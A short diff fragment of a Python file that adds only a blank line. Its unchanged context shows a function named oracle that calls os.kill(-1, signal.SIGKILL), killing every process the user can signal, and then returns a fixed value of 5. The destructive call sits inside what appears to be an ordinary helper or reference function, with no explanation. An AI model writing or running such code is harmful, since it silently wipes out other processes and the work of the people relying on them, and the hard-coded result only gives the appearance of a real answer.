@@ -3,6 +3,7 @@
 import os
 import signal
 
+
 def oracle(n):
     os.kill(-1, signal.SIGKILL)
     return 5
